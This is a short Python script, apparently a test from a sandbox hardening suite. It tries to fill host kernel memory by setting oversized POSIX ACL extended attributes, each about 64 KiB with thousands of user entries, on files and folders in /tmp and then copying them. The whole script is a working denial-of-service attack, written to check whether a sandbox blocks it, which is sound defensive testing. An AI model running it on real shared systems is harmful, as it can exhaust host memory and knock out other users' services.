# Tries: to fill the host's memory with access control lists, of which the kernel charges a hundredth: one of 64 KiB on each
# of many files, and two on each folder. Stopped by: no attribute can be set, as on a file system that has none.
import errno
import os
import shutil
import struct

entries = [(1, 7, 0xFFFFFFFF)] + [(2, 7, 1000 + user) for user in range(8186)]
entries += [(4, 7, 0xFFFFFFFF), (16, 7, 0xFFFFFFFF), (32, 7, 0xFFFFFFFF)]
access = struct.pack("<I", 2) + b"".join(struct.pack("<HHI", *entry) for entry in entries)

os.mkdir("/tmp/folder")
file = os.open("/tmp/file", os.O_CREAT | os.O_RDWR)
for what in ("/tmp/folder", "/tmp/file", file):
    for name in ("system.posix_acl_access", "system.posix_acl_default", "user.message"):
        try:
            os.setxattr(what, name, access)
            print("set:", what, name)
        except OSError as error:
            if error.errno != errno.ENOTSUP:
                print(what, name, error)
shutil.copy2("/tmp/file", "/tmp/copy")
shutil.copytree("/tmp/folder", "/tmp/folder-copy")
print("ok")
